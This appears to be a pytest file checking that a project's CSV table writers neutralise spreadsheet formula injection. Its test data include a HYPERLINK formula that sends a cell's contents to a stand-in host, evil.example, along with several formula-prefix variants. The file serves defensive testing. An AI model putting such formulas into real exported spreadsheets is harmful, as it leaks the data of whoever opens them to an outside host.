"""Every table that is written for spreadsheets: no cell of it is a formula, whoever wrote the text."""

from __future__ import annotations

import ast
import csv
import io

import pytest
from conftest import REPOSITORY

from annotator.checks import report as checking_output
from panelwise.files.tables import csv_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
NASTY = (FORMULA, "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\uff1d1", '=1"\n=2', "a,=1")
PACKAGES = ("annotator", "agreement", "panelwise", "prelabel", "label_config")


def cells(table: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]


def harmless(table: str) -> bool:
    return not any(cell.lstrip("\ufeff \u200b")[:1] in tuple("=+-@\t\r\n\uff1d") and cell for cell in cells(table))


@pytest.mark.parametrize("text", NASTY)
def test_no_writer_of_tables_lets_a_formula_out(text: str) -> None:
    table = csv_text(["figure"], [{"figure": text}])
    assert harmless(table), table
    assert any(cell.endswith(text.lstrip("'")) for cell in cells(table)), "the text itself stays"


def test_findings_of_the_checks_are_texts_too(monkeypatch: pytest.MonkeyPatch) -> None:
    record = dict.fromkeys(("phase", "annotator", *checking_output.COLUMNS), FORMULA)
    monkeypatch.setattr(checking_output, "_records", lambda found: iter([record]))
    assert harmless(checking_output.csv_text([]))


def writers() -> set[str]:
    """Modules of the packages that make tables with the csv module."""
    found = set()
    for package in PACKAGES:
        for module in (REPOSITORY / package).rglob("*.py"):
            if "node_modules" in module.parts:
                continue
            for node in ast.walk(ast.parse(module.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter"):
                    found.add(module.relative_to(REPOSITORY).as_posix())
    return found


@pytest.mark.slow
def test_whatever_writes_tables_makes_texts_of_its_cells() -> None:
    # A copy of an upload under other headings is read by the import alone.
    assert writers() - {"annotator/imports/uploads.py"} == {"panelwise/files/tables.py"}
